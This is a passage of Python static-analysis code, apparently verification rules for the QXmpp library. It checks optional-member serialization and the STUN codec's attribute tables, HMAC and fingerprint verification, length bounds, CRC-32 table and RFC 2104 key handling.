                run.ok(rid, f.loc(i), '%s{...}: every name read into a member is the one written for it' % T.split('::')[-1])
    return n


# --------------------------------------------------------------------------- R16: an optional member is written whenever it is engaged
def rule_optional_guards(prog, run):
    rid = run.rule('C01.R16', 'a serializer decides whether to write a std::optional member by its engagement (has_value / operator bool), not by comparing its value: a guard such as '
                              '"member > 0" skips an engaged value the getter reports and the parser would have stored (0, an empty string ...), so that value does not survive the '
                              'round trip', floor=20)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or '/src/' not in f.file or f.raw.get('dependent') or not any('QXmlStreamWriter' in (p_.get('t') or '') for p_ in (f.params if not f.is_lambda else [])):
            continue
        for i, c in f.calls():
            if (f.cname(c) or '') not in codec.W_API:
                continue
            opt_members = {}
            for a in c.get('args', []):
                for j in f.walk(a):
                    m = f.nodes[j]
                    if m['k'] == 'mem' and (m.get('t') or '').replace('const ', '').startswith('std::optional<'):
                        opt_members[m['f']] = m['name']
            if not opt_members:
                continue
            n += 1
            run.instance(rid)
            bad = None
            for cond, pol in f.atomic_assertions_at(i):
                bo = f.binop(f.skip(cond))
                if not bo or bo[0] not in ('>', '<', '>=', '<=', '!=', '=='):
                    continue
                sides = [set(f.nodes[j].get('f') for j in f.walk(x) if f.nodes[j]['k'] == 'mem') for x in bo[1:]]
                other_is_value = any(f.nodes[f.skip(x)]['k'] in ('int', 'str', 'char', 'bool') or (f.const_value(x) is not None and f.const_value(x)[0] in ('int', 'str')) for x in bo[1:])
                hit = [m for m in opt_members if any(m in s_ for s_ in sides)]
                if hit and other_is_value and not any(f.nodes[f.skip(x)]['k'] == 'var' and f.nodes[f.skip(x)].get('name') in ('nullopt', 'std::nullopt') for x in bo[1:]):
                    bad = (cond, opt_members[hit[0]])
            if bad:
                run.violation(rid, '%s#value-guard:%s' % (f.outer_name(), bad[1]), f.loc(i),
                              '%s writes the optional member %s only when %s holds: an engaged value for which the comparison is false is reported by the getter and read by the parser, '
                              'but never written' % (f.display()[:50], bad[1], f.fmt(bad[0], inline=False)[:50]))
            else:
                run.ok(rid, f.loc(i), 'optional member written by engagement', nontrivial=False)
    return n
