"""C14 — STUN codec: attribute tables agree, integrity / fingerprint failures reject, wire lengths are checked,
constant tables are the standard ones, the HMAC helper handles every key length (structural clauses)."""
import re

from .. import cfgx
from ..build import AnalysisBroken

UNITS = ['base/QXmppStun.cpp', 'base/QXmppUtils.cpp']
SM = 'QXmppStunMessage'


def _enum_name(f, nid):
    n = f.nodes[f.resolve(nid)]
    while n['k'] in ('cast', 'icast'):
        n = f.nodes[f.resolve(n['e'])]
    if n['k'] == 'enum' and (n.get('enum') or '').endswith('AttributeType'):
        return n['name'].split('::')[-1]
    return None


def _const_int(f, nid):
    n = f.nodes[f.resolve(nid)]
    while n['k'] in ('cast', 'icast'):
        n = f.nodes[f.resolve(n['e'])]
    if n['k'] == 'int':
        return n['v']
    if n['k'] == 'sizeof' and 'v' in n:
        return n['v']
    return None


def encode_table(prog, enc):
    """{attribute enumerator: {'len': int|'dyn', 'site': nid, 'padded': bool}} from QXmppStunMessage::encode"""
    out = {}
    # direct: stream << quint16(Type); stream << quint16(len)
    shifts = [(i, n) for i, n in enc.calls() if n.get('op') == '<<' and 'QDataStream' in enc.cname(n)]
    order = sorted(shifts, key=lambda t: (enc.pos(t[0]) or (0, 0)))
    byblock = {}
    for i, n in shifts:
        byblock.setdefault(enc.pos(i)[0], []).append((enc.pos(i)[1], i, n))
    for b, lst in byblock.items():
        lst.sort()
        for k, (idx, i, n) in enumerate(lst):
            name = _enum_name(enc, n['opargs'][1])
            if name and k + 1 < len(lst):
                ln = _const_int(enc, lst[k + 1][2]['opargs'][1])
                txt = enc.fmt(lst[k + 1][2]['opargs'][1])
                # padding: a "% 4" test in the same arm
                arm_blocks = {b}
                padded = any('% 4' in enc.fmt(bb['term']['cond']) for bb in enc.blocks.values()
                             if bb.get('term') and 'cond' in bb['term'] and enc.block_dominates(b, bb['id']))
                out[name] = {'len': ln if ln is not None else 'dyn', 'site': i, 'padded': padded, 'lentext': txt}
    for i, n in enc.calls():
        cn = enc.cname(n)
        if cn in ('addAddress', 'encodeString') and len(n['args']) >= 2:
            name = _enum_name(enc, n['args'][1])
            if name:
                out[name] = {'len': 'addr' if cn == 'addAddress' else 'dyn', 'site': i, 'padded': True, 'lentext': cn}
    return out


def decode_table(prog, dec):
    """{attribute enumerator: {'len': int|None, 'op': '!='|'<', 'arm': cond nid}} from the a_type == X arms of decode"""
    out = {}
    for b in dec.blocks.values():
        t = b.get('term')
        if not t or 'cond' not in t or t['k'] != 'if':
            continue
        # the arm condition is one "a_type == X" or a disjunction of them (aliases sharing one arm)
        def disjuncts(nid):
            bo_ = dec.binop(dec.skip(nid))
            if bo_ and bo_[0] == '||':
                return disjuncts(bo_[1]) + disjuncts(bo_[2])
            return [nid]
        names = []
        for dj in disjuncts(t['cond']):
            bo = dec.binop(dec.skip(dj))
            if not bo or bo[0] != '==':
                names = []
                break
            nm = _enum_name(dec, bo[2]) or _enum_name(dec, bo[1])
            other = dec.fmt(bo[1], inline=False) + dec.fmt(bo[2], inline=False)
            if 'a_type' not in other:
                names = []
                break
            if nm:
                names.append(nm)      # a disjunct comparing with a bare number is an alias code without enumerator
        if not names:
            continue
        arm = b['succs'][0]
        # first length test inside the arm
        ln = None
        op = None
        for bb in dec.blocks.values():
            tt = bb.get('term')
            if tt and 'cond' in tt and tt['k'] == 'if' and (bb['id'] == arm):
                b2 = dec.binop(tt['cond'])
                if b2 and 'a_length' in dec.fmt(tt['cond'], inline=False) and b2[0] in ('!=', '<'):
                    ln = _const_int(dec, b2[2])
                    op = b2[0]
        # address arms delegate to decodeAddress
        txt = ' '.join(dec.fmt(e, inline=False) for e in dec.blocks[arm]['elems'] if dec.nodes[e]['k'] == 'call')
        if ln is None and 'decodeAddress' in txt:
            ln, op = 'addr', 'fn'
        for name in names:
            out[name] = {'len': ln, 'op': op, 'arm': arm, 'cond': t['cond'], 'block': b['id']}
    return out


def run(prog, run):
    run.explanation = ('Encoder and decoder are compared as tables extracted from the two functions (attribute types written vs arms decoded, fixed '
                       'lengths on both sides, padding); the integrity and fingerprint arms are explored under "wrong HMAC / wrong CRC" and a flag-sensitive '
                       'exploration shows whether a keyed decode can succeed without a verified MESSAGE-INTEGRITY; wire lengths reaching allocations '
                       'and reads are bounded; the CRC table is recomputed from its polynomial and the HMAC helper is checked for long keys.')
    run.assume('that HMAC/CRC outputs equal the RFC values for all inputs and decode∘encode = id at value level are numerical/runtime claims (not decided)')
    enc = prog.fn(SM + '::encode')
    dec = prog.fn(SM + '::decode')
    r1(prog, run, enc, dec)
    r2(prog, run, enc, dec)
    r3(prog, run, dec)
    r4(prog, run, dec)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run, dec)
    r8(prog, run, dec)
    r9(prog, run, enc)
    r10(prog, run, dec)
    r11(prog, run)


def r1(prog, run, enc, dec):
    rid = run.rule('C14.R1', 'every attribute the encoder writes has a decoder arm with the same fixed length; variable-length values are padded to 32 bits; '
                             'address encode/decode use the same family codes, lengths and XOR constants', floor=22)
    E = encode_table(prog, enc)
    D = decode_table(prog, dec)
    if len(E) < 20 or len(D) < 20:
        raise AnalysisBroken('C14.R1: attribute tables incomplete (encode %d, decode %d)' % (len(E), len(D)))
    run.extra['attributes_encoded'] = len(E)
    run.extra['attributes_decoded'] = len(D)
    for name in sorted(E):
        run.instance(rid)
        short = name.split('::')[-1]
        e = E[name]
        d = D.get(name)
        if not d:
            run.violation(rid, 'stun-attr#%s#not-decoded' % short, enc.loc(e['site']), 'attribute %s is encoded but has no decoder arm' % short)
            continue
        if isinstance(e['len'], int) and isinstance(d['len'], int) and e['len'] != d['len']:
            run.violation(rid, 'stun-attr#%s#length' % short, enc.loc(e['site']), '%s is written with length %d but the decoder demands %d' % (short, e['len'], d['len']))
        elif isinstance(e['len'], int) and d['len'] is None and e['len'] % 4:
            run.violation(rid, 'stun-attr#%s#unchecked-length' % short, enc.loc(e['site']), '%s has fixed length %d but the decoder does not check it' % (short, e['len']))
        elif e['len'] == 'dyn' and d['len'] is None and not e['padded']:
            run.violation(rid, 'stun-attr#%s#padding' % short, enc.loc(e['site']), 'variable-length %s is written without 32-bit padding while the decoder skips pad bytes' % short)
        else:
            run.ok(rid, enc.loc(e['site']), '%s: encode len %s / decode len %s%s' % (short, e['len'], d['len'], ' (padded)' if e['len'] == 'dyn' and e['padded'] else ''))
    for name in sorted(set(D) - set(E)):
        if name.split('::')[-1] not in ('MessageIntegrity', 'Fingerprint'):
            run.info(rid, dec.loc(), 'attribute %s is decoded but never encoded' % name.split('::')[-1])
    # address siblings
    ea = prog.fn('encodeAddress')
    da = prog.fn('decodeAddress')
    run.instance(rid)
    def consts(f):
        s = set()
        for n in f.nodes:
            if n['k'] == 'var' and n.get('vk') == 'global' and n['name'].startswith('STUN_'):
                s.add(n['name'])
        for b in f.blocks.values():
            for c in (b.get('term') or {}).get('cases', []):
                if isinstance(c, dict) and (c.get('cvar') or '').startswith('STUN_'):
                    s.add(c['cvar'])                      # case STUN_IPV4:
        ints = sorted({n['v'] for n in f.nodes if n['k'] == 'int' and n['v'] in (4, 8, 16, 20)})
        return s, ints
    ce, ie = consts(ea)
    cd, id_ = consts(da)
    if {'STUN_IPV4', 'STUN_IPV6', 'STUN_MAGIC'} <= ce and {'STUN_IPV4', 'STUN_IPV6', 'STUN_MAGIC'} <= cd and {8, 20} <= set(ie) and {8, 20} <= set(id_):
        run.ok(rid, ea.loc(), 'encodeAddress/decodeAddress: same family codes, lengths 8/20, XOR with STUN_MAGIC')
    else:
        run.violation(rid, 'stun-address#sibling-mismatch', ea.loc(), 'address encode uses %s %s, decode uses %s %s' % (sorted(ce), ie, sorted(cd), id_))


def _arm_eval(dec, D, attr, extra):
    """evaluator that fixes the current attribute type to `attr`"""
    attr_val = None
    for n in dec.nodes:
        if n['k'] == 'enum' and n['name'].split('::')[-1] == attr:
            attr_val = ('enum', n['name'])
    val = None
    for n in dec.nodes:
        if n['k'] == 'enum' and n['name'].split('::')[-1] == attr:
            val = n['v']

    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'var' and n.get('name') == 'a_type':
            return (attr_val,)
        return extra(f, nid, st) if extra else None
    ev = cfgx.Evaluator(dec, {}, custom=custom)
    return lambda f, c, st: ev.ev(c, st)


def r2(prog, run, enc, dec):
    rid = run.rule('C14.R2', 'a wrong MESSAGE-INTEGRITY (under a key) or FINGERPRINT makes decode return false; both sides patch the length with the same '
                             'constants (+24 / +8) and use the same fingerprint mask; after MESSAGE-INTEGRITY only FINGERPRINT is processed', floor=4)
    D = decode_table(prog, dec)

    def wrong_hmac(f, nid, st):
        n = f.nodes[nid]
        bo = f.binop(nid)
        if bo and bo[0] in ('!=', '==') and 'generateHmacSha1' in f.fmt(nid):
            return (bo[0] == '!=',)
        if n['k'] == 'call' and f.cname(n) == 'QByteArray::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == 'p1':
            return (False,)
        if n['k'] == 'var' and n.get('name') == 'after_integrity':
            return (False,)
        return None

    def wrong_crc(f, nid, st):
        bo = f.binop(nid)
        if bo and bo[0] in ('!=', '==') and ('generateCrc32' in f.fmt(nid) or 'expected' in f.fmt(nid, inline=False)) and 'fingerprint' in f.fmt(nid, inline=False):
            return (bo[0] == '!=',)
        n = f.nodes[nid]
        if n['k'] == 'var' and n.get('name') == 'after_integrity':
            return (False,)
        return None
    for attr, case, label in (('MessageIntegrity', wrong_hmac, 'HMAC mismatch under a non-empty key'), ('Fingerprint', wrong_crc, 'CRC mismatch')):
        run.instance(rid)
        evc = _arm_eval(dec, D, attr, case)

        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'call' and f.cname(n) in ('QXmppUtils::generateHmacSha1', 'QXmppUtils::generateCrc32') and 'arm' not in st:
                return st + ('arm',)
            if n['k'] == 'ret' and 'e' in n:
                v = f.const_value(n['e'])
                return st + (('ret', v[1] if v else '?'),)
            return None
        exits, _ = cfgx.explore(dec, (), transfer, evc, max_states=400000)
        run.paths += len(exits)
        bad = [st for st in exits if 'arm' in st and (('ret', True) in st or ('ret', '?') in st)]
        reached = [st for st in exits if 'arm' in st]
        if not reached:
            run.violation(rid, 'decode#%s#never-verified' % attr, dec.loc(), '%s is never verified by decode()' % attr)
        elif bad:
            run.violation(rid, 'decode#%s#mismatch-accepted' % attr, dec.loc(), 'decode() can return true after a %s' % label, cfgx.describe_path(dec, exits[bad[0]]))
        else:
            run.ok(rid, dec.loc(), '%s: %s => decode returns false' % (attr, label))
    # constants
    run.instance(rid)
    def patch_consts(f):
        out = []
        for i, n in f.calls('setBodyLength'):
            t = f.fmt(n['args'][1], inline=False)
            m = re.findall(r'\+ (\d+)\)?$', t)
            out.append(int(m[-1]) if m else 0)
        return sorted(out)
    pe, pd = patch_consts(enc), patch_consts(dec)
    masks_e = {n['v'] for n in enc.nodes if n['k'] == 'int' and n['v'] > 0x10000000}
    masks_d = {n['v'] for n in dec.nodes if n['k'] == 'int' and n['v'] > 0x10000000}
    if {8, 24} <= set(pe) and set(pd) == {8, 24} and 0x5354554e in masks_e and 0x5354554e in masks_d:
        run.ok(rid, dec.loc(), 'length patched with +24 (integrity) and +8 (fingerprint) on both sides; fingerprint mask 0x5354554e on both sides')
    else:
        run.violation(rid, 'stun-integrity#constants', dec.loc(), 'length patch constants encode %s / decode %s, masks %s / %s' % (pe, pd, sorted(masks_e), sorted(masks_d)))
    # after_integrity discipline
    run.instance(rid)
    sets = [i for i, n in dec.all_nodes('assign') if dec.nodes[dec.skip(n['l'])].get('name') == 'after_integrity' and dec.const_value(n['r']) == ('bool', True)]
    guard = [b for b in dec.blocks.values() if b.get('term') and 'cond' in b['term'] and 'after_integrity' in dec.fmt(b['term']['cond'], inline=False)]
    full = [b for b in guard if 'Fingerprint' in dec.fmt(b['term']['cond'], inline=False)]
    arms = [d['block'] for d in D.values()]
    if sets and full and any(all(dec.block_dominates(g['id'], a) for a in arms) for g in guard):
        run.ok(rid, dec.loc(sets[0]), 'after MESSAGE-INTEGRITY the flag is set and tested before every attribute arm')
    else:
        run.violation(rid, 'decode#after-integrity', dec.loc(), 'attributes after MESSAGE-INTEGRITY are not excluded from processing')


def keyed_decode_verdict(prog, dec):
    """flag-sensitive exploration: can decode() return true under a non-empty key without having verified MESSAGE-INTEGRITY?
    returns (bad exit states, witness map, total)"""
    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QByteArray::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == 'p1':
            return (False,)
        if st is not None and n['k'] == 'var' and n.get('vk') == 'local' and n.get('tc') == 'bool' and ('flag', n['name'], True) in st:
            return (True,)
        if st is not None and n['k'] == 'var' and n.get('vk') == 'local' and n.get('tc') == 'bool' and ('flag', n['name'], False) in st:
            return (False,)
        return None
    ev = cfgx.Evaluator(dec, {}, custom=custom)

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'ret' and 'e' in n:
            v = ev.ev(n['e'], st)
            return st | {('ret', v if isinstance(v, bool) else '?')}
        # boolean locals assigned constants are tracked (e.g. a "verified" flag)
        if n['k'] == 'assign':
            l = f.nodes[f.skip(n['l'])]
            v = ev.ev(n['r'], st)
            if l['k'] == 'var' and l.get('tc') == 'bool':
                rest = frozenset(x for x in st if not (isinstance(x, tuple) and x[0] == 'flag' and x[1] == l['name']))
                return rest | {('flag', l['name'], v)} if isinstance(v, bool) else rest
        if n['k'] == 'decl':
            for d in n['decls']:
                if d.get('tc') == 'bool' and 'init' in d:
                    v = ev.ev(d['init'], st)
                    rest = frozenset(x for x in st if not (isinstance(x, tuple) and x[0] == 'flag' and x[1] == d['name']))
                    return rest | {('flag', d['name'], v)} if isinstance(v, bool) else rest
        return None

    def refine(f, cond, pol, st):
        if not isinstance(pol, bool):
            return st
        atoms = []
        f._decompose(cond, pol, atoms, lambda node: (lambda v: v if isinstance(v, bool) else None)(ev.ev(node, st)))
        for c, p in atoms:
            bo = f.binop(f.skip(c))
            if bo and bo[0] in ('!=', '==') and 'generateHmacSha1' in f.fmt(c) and isinstance(p, bool):
                if (bo[0] == '==') == p:
                    return st | {'verified'}
        return st
    exits, info = cfgx.explore(dec, frozenset(), transfer, lambda f, c, st: ev.ev(c, st), refine, max_states=600000)
    bad = {st: p for st, p in exits.items() if ('ret', True) in st and 'verified' not in st or (('ret', '?') in st and 'verified' not in st)}
    return bad, exits


def r3(prog, run, dec):
    rid = run.rule('C14.R3', 'when a key is supplied decode() cannot return true unless a MESSAGE-INTEGRITY attribute was verified with it', floor=1)
    run.instance(rid)
    bad, exits = keyed_decode_verdict(prog, dec)
    run.paths += len(exits)
    if bad:
        st, path = sorted(bad.items(), key=lambda kv: len(kv[1]))[0]
        run.violation(rid, 'QXmppStunMessage::decode#keyed-without-integrity', dec.loc(),
                      'under a non-empty key decode() returns true for a message that carries no (verified) MESSAGE-INTEGRITY attribute: '
                      'an attacker who does not know the key is accepted', cfgx.describe_path(dec, path))
    else:
        run.ok(rid, dec.loc(), 'keyed decode: every accepting path passed the HMAC comparison (%d exit states)' % len(exits))


def r4(prog, run, dec):
    from . import C02
    rid = run.rule('C14.R4', 'every wire length reaching an allocation, a raw read or a subtraction is bounded by its 16-bit type or a dominating check; the '
                             'attribute loop strictly advances', floor=6)
    sub = type(run)(run.prop, run.tier, run.seed)
    rr = sub.rule('x', 'x')
    C02.rule_taint(prog, sub, rr, only_files=('QXmppStun.cpp',))
    for v in sub.violations:
        run.instance(rid)
        run.violation(rid, v['key'], v['site'], v['what'], v['path'])
    for smp in sub.rules[rr]['samples']:
        if smp['verdict'] == 'ok':
            run.instance(rid)
            run.ok(rid, smp['site'], smp['detail'])
    run.rules[rid]['matched'] += max(0, sub.rules[rr]['matched'] - len(sub.rules[rr]['samples']))
    # a_length - k must be guarded
    for i, n in enumerate(dec.nodes):
        if n['k'] == 'bin' and n['op'] == '-' and dec.nodes[dec.skip(n['l'])].get('name') == 'a_length':
            run.instance(rid)
            k = dec.const_value(n['r'])
            atoms = [(dec.fmt(c, inline=False), p) for c, p in dec.atomic_assertions_at(i)]
            if any('a_length' in t and ('<' in t or '!=' in t) and p is False for t, p in atoms):
                run.ok(rid, dec.loc(i), '%s guarded by %s' % (dec.fmt(i, inline=False), [t for t, p in atoms if 'a_length' in t and p is False][0][:40]))
            else:
                run.violation(rid, 'decode#negative-length:%s' % dec.fmt(i, inline=False)[:30], dec.loc(i), '%s can be negative (no dominating length check)' % dec.fmt(i, inline=False))
    # loop progress
    run.instance(rid)
    incs = [i for i, n in dec.all_nodes('assign') if n['op'] == '+=' and dec.nodes[dec.skip(n['l'])].get('name') == 'done']
    loop = [b for b in dec.blocks.values() if b.get('term', {}).get('k') == 'while']
    ok = bool(incs) and bool(loop)
    for i in incs:
        t = dec.fmt(dec.nodes[i]['r'], inline=False)
        if not t.startswith('((4 +') and not t.startswith('(4 +'):
            ok = False
    if ok:
        run.ok(rid, dec.loc(incs[0]), 'every continuing path adds 4 + a_length + padding to done (strict progress)')
    else:
        run.violation(rid, 'decode#progress', dec.loc(), 'the attribute loop may not advance')


def r5(prog, run):
    rid = run.rule('C14.R5', 'crctable[256] is the reflected CRC-32 table of polynomial 0xEDB88320; generateCrc32 starts from and finishes with 0xffffffff', floor=2)
    t = None
    for cand in prog.tables.values():
        if cand['name'] == 'crctable':
            t = cand
    if not t or not t.get('ints'):
        raise AnalysisBroken('C14.R5: crctable initialiser not found')
    run.instance(rid)
    want = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        want.append(c)
    got = [x & 0xffffffff for x in t['ints']]
    site = '%s:%d' % (t['file'].replace('/repo/', ''), t['line'])
    if got == want:
        run.ok(rid, site, 'all 256 entries equal the table generated from 0xEDB88320')
    else:
        diff = [i for i in range(min(len(got), 256)) if got[i] != want[i]]
        run.violation(rid, 'crctable#entries', site, 'crctable differs from the standard CRC-32 table (%d entries, first difference at index %s)'
                      % (len(got), diff[0] if diff else 'length'))
    f = prog.fn('QXmppUtils::generateCrc32')
    run.instance(rid)
    # the driver may be a loop or a fold over a step lambda: look at the function together with its lambdas
    parts = [f] + prog.lambdas_in(f)
    ints = [n['v'] & 0xffffffff for g in parts for n in g.nodes if n['k'] == 'int']
    txt = ' '.join(g.fmt(i, inline=False) for g in parts for i in range(len(g.nodes)) if g.nodes[i]['k'] in ('decl', 'ret', 'assign'))
    inverts = any(n['k'] == 'un' and n.get('op') == '~' for g in parts for n in g.nodes)       # ~x == x ^ 0xffffffff on quint32
    final_xor = ints.count(0xffffffff) >= 2 or (ints.count(0xffffffff) >= 1 and inverts)
    if final_xor and '>> 8' in txt and 'crctable[' in txt and '& 255' in txt.replace('0xff', '255'):
        run.ok(rid, f.loc(), 'generateCrc32: init 0xffffffff, table step (r >> 8) ^ T[(r & 0xff) ^ byte], final xor 0xffffffff')
    else:
        run.violation(rid, 'generateCrc32#shape', f.loc(), 'CRC-32 driver does not have the standard init / step / final xor: %s' % txt[:120])


def r6(prog, run):
    rid = run.rule('C14.R6', 'the HMAC helper never pads with a negative size: keys longer than the block are replaced by their hash (RFC 2104), or the work is '
                             'delegated to QMessageAuthenticationCode', floor=1)
    top = prog.fn('generateHmac', unit='QXmppUtils.cpp')
    run.instance(rid)
    if any(True for _ in top.calls('QMessageAuthenticationCode::hash')):
        run.ok(rid, top.loc(), 'delegates to QMessageAuthenticationCode')
        return
    # the key preparation may live in a file-static helper of generateHmac: the function that compares the key size / builds the pad is analysed
    cands = [top] + [g for _, n in top.calls() for g in prog.callee_fns(top, n) if g.entry is not None and g.file == top.file and g.id != top.id]
    f = top
    for g in cands:
        if any(g.nodes[i]['k'] == 'cond' and '::size()' in g.fmt(g.nodes[i]['c']) for i in range(len(g.nodes))) or \
                any((b_.get('term') or {}).get('k') == 'if' and '::size()' in g.fmt(b_['term']['cond']) and g.binop(g.skip(b_['term']['cond'])) for b_ in g.blocks.values()) or \
                any(n.get('cls') == 'QByteArray' and len(n.get('args', [])) == 2 and g.binop(n['args'][0]) and g.binop(n['args'][0])[0] == '-' for _, n in g.all_nodes('construct')):
            f = g
            break
    pads = []
    for i, n in f.all_nodes('construct'):
        if n.get('cls') == 'QByteArray' and len(n.get('args', [])) == 2:
            b = f.binop(n['args'][0])
            if b and b[0] == '-':
                pads.append((i, b))
    # the key preparation: which keys are hashed first (RFC 2104: exactly those longer than the block size B)
    sel = []
    for i, n in enumerate(f.nodes):
        c = None
        if n['k'] == 'cond':
            c, a, b = n['c'], n['a'], n['b']
            hashed = ['QCryptographicHash' in f.fmt(x) for x in (a, b)]
        if c is None:
            continue
        bo = f.binop(f.skip(c))
        if not bo or bo[0] not in ('<', '<=', '>', '>='):
            continue
        lt, rt = f.fmt(bo[1]), f.fmt(bo[2])
        if '::size()' not in lt + rt or hashed[0] == hashed[1]:
            continue
        op = bo[0]
        if '::size()' in rt:        # B <op> size  ->  size <flipped op> B
            op = {'<': '>', '<=': '>=', '>': '<', '>=': '<='}[op]
        # value of the condition for size == B
        at_b = op in ('<=', '>=')
        hashed_at_b = hashed[0] if at_b else hashed[1]
        sel.append((i, op, hashed_at_b))
    for b_ in f.blocks.values():
        t = b_.get('term')
        if t and t.get('k') == 'if' and 'cond' in t:
            bo = f.binop(f.skip(t['cond']))
            if bo and bo[0] in ('<', '<=', '>', '>=') and '::size()' in f.fmt(bo[1]) + f.fmt(bo[2]):
                succ = [s_ for s_ in b_['succs']]
                def hashes(bid):
                    return bid is not None and any('QCryptographicHash' in f.fmt(e) for e in f.blocks[bid]['elems'])
                hs = [hashes(x) for x in succ[:2]]
                if len(hs) == 2 and hs[0] != hs[1]:
                    op = bo[0]
                    if '::size()' in f.fmt(bo[2]):
                        op = {'<': '>', '<=': '>=', '>': '<', '>=': '<='}[op]
                    at_b = op in ('<=', '>=')
                    sel.append((t['cond'], op, hs[0] if at_b else hs[1]))
    for i, op, hashed_at_b in sel:
        run.instance(rid)
        if hashed_at_b:
            run.violation(rid, 'generateHmac#block-size-key-hashed', f.loc(i),
                          'a key of exactly the block size is replaced by its hash (the key preparation tests "size %s B"): RFC 2104 hashes only keys longer than the block, so the '
                          'HMAC - and with it MESSAGE-INTEGRITY - differs from the standard value for 64-byte keys' % op)
        else:
            run.ok(rid, f.loc(i), 'keys of exactly the block size are used as they are (size %s B selects the hash)' % op)
    if not pads and not sel:
        raise AnalysisBroken('C14.R6: neither a key preparation (size compared with the block size) nor a padding construction found in generateHmac')
    for i, b in pads:
        sub = f.nodes[f.resolve(b[2])]
        ok = False
        why = ''
        if sub['k'] == 'call' and f.cname(sub).endswith('::size') and sub.get('obj') is not None:
            keyexpr = f.resolve(sub['obj'])
            kn = f.nodes[keyexpr]
            # (a) dominating bound
            for c, p in f.atomic_assertions_at(i):
                t = f.fmt(c)
                if '::size()' in t and (('<=' in t and p is True) or ('>' in t and p is False)):
                    ok, why = True, 'dominated by a size bound'
            # (c) the padded value is a local that starts as the key and is replaced by a digest under "size > B"
            if kn['k'] == 'var' and kn.get('vk') == 'local':
                ds = [d for d in f.all_defs(kn.get('decl')) if d is not None]
                digest_defs = [d for d in ds if 'QCryptographicHash' in f.fmt(d)]
                guarded = False
                for j, an in list(f.all_nodes('assign')) + [(j, an) for j, an in f.calls() if an.get('op') == '=' and len(an.get('opargs', [])) == 2]:
                    lhs = f.nodes[f.skip(an['l'] if an['k'] == 'assign' else an['opargs'][0])]
                    rhs = an['r'] if an['k'] == 'assign' else an['opargs'][1]
                    if lhs.get('decl') == kn.get('decl') and 'QCryptographicHash' in f.fmt(rhs):
                        for c, p in f.atomic_assertions_at(j):
                            t = f.fmt(c)
                            if '::size()' in t and ((' > ' in t and p is True) or (' <= ' in t and p is False)):
                                guarded = True
                if digest_defs and guarded and len(ds) == len(digest_defs) + 1:
                    ok, why = True, 'long keys are replaced by their hash (assigned under the size test)'
            # (b) the padded value is "size > B ? hash(key) : key"
            if kn['k'] == 'cond':
                ct = f.fmt(kn['c'])
                a, bb = f.fmt(kn['a']), f.fmt(kn['b'])
                if '::size()' in ct and ('>' in ct or '<=' in ct) and ('QCryptographicHash::hash' in a + bb or 'result()' in a + bb):
                    ok, why = True, 'long keys are replaced by their hash'
        if ok:
            run.ok(rid, f.loc(i), 'pad size %s: %s' % (f.fmt(pads[0][1][1] if False else i, inline=False)[:50], why))
        else:
            run.violation(rid, 'generateHmac#long-key', f.loc(i),
                          'the pad size %s is negative for keys longer than the 64-byte block: such keys are not hashed first, so the HMAC is wrong (RFC 2104 §2)'
                          % f.fmt(i, inline=False)[:60])


def r7(prog, run, dec):
    rid = run.rule('C14.R7', 'no attribute value is materialised with a declared length that exceeds what is left of the message: every allocation/raw read sized '
                             'by the attribute length is unreachable when the length does not fit', floor=6)
    # sinks: buffers sized by a_length and raw reads into them
    sinks = []
    for i, n in dec.calls():
        cn = dec.cname(n)
        if cn.endswith('::resize') and n.get('args') and any(dec.nodes[j].get('name') == 'a_length' for j in dec.walk(n['args'][0])):
            sinks.append((i, 'resize(%s)' % dec.fmt(n['args'][0], inline=False)[:20]))
    for i, n in dec.all_nodes('construct'):
        if n.get('cls') == 'QByteArray' and n.get('args') and any(dec.nodes[j].get('name') == 'a_length' for j in dec.walk(n['args'][0])):
            sinks.append((i, 'QByteArray(%s, …)' % dec.fmt(n['args'][0], inline=False)[:20]))
    if len(sinks) < 6:
        raise AnalysisBroken('C14.R7: only %d buffers sized by the attribute length found in decode' % len(sinks))

    def custom(f, nid, st):
        bo = f.binop(nid)
        if not bo or bo[0] not in ('<', '<=', '>', '>='):
            return None
        names_l = {f.nodes[j].get('name') for j in f.walk(bo[1])}
        names_r = {f.nodes[j].get('name') for j in f.walk(bo[2])}
        rest = {'length', 'done'}
        if 'a_length' in names_l and rest & names_r and 'a_length' not in names_r:
            return (bo[0] in ('>', '>='),)       # "declared length > remaining" is true for the hostile input
        if 'a_length' in names_r and rest & names_l and 'a_length' not in names_l:
            return (bo[0] in ('<', '<='),)
        return None
    ev = cfgx.Evaluator(dec, {}, custom=custom)
    res = cfgx.sink_reachability(dec, lambda f, c, st: ev.ev(c, st), [i for i, _ in sinks])
    for i, what in sinks:
        run.instance(rid)
        if res[i] is not None:
            run.violation(rid, 'decode#value-longer-than-message#L%s' % what, dec.loc(i),
                          '%s is reachable for an attribute whose declared length exceeds the rest of the message: the value is padded with uninitialised memory '
                          'and the truncated packet is accepted' % what)
        else:
            run.ok(rid, dec.loc(i), '%s unreachable when the attribute does not fit' % what)


STRING_COMPARES = ('qstrncmp', 'qstrcmp', 'strncmp', 'strcmp', 'qstrnicmp', 'qstricmp', 'strncasecmp', 'strcasecmp')
PARTIAL = ('startsWith', 'endsWith', 'contains', 'indexOf', 'left', 'right', 'mid', 'chopped', 'first', 'last', 'truncate', 'chop')


def _walk_resolved(f, nid, depth=0, seen=None):
    """walk an expression, descending into the initialisers of single-assignment locals"""
    seen = set() if seen is None else seen
    for j in f.walk(nid):
        if j in seen:
            continue
        seen.add(j)
        yield j
        n = f.nodes[j]
        if n['k'] == 'var' and n.get('vk') == 'local' and depth < 4:
            d = f.single_def(n['decl'])
            if d is not None:
                yield from _walk_resolved(f, d, depth + 1, seen)


def _value_chain(f, nid, depth=0):
    """the operations a value went through: the expression itself, the objects methods were called on, both arms of ?:, the initialiser of a
    single-assignment local - but not the arguments of the function that produced it"""
    if depth > 8 or nid is None:
        return
    nid = f.skip(nid)
    n = f.nodes[nid]
    yield nid
    if n['k'] == 'un' and n.get('op') == '!':
        yield from _value_chain(f, n['e'], depth + 1)
    elif n['k'] == 'call' and n.get('obj') is not None:
